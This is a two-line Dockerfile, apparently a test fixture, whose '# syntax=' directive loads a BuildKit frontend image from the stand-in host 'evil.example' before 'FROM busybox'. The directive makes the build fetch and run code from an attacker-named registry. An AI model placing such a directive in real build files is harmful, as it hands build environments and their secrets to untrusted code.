# syntax=evil.example/frontend:1
FROM busybox
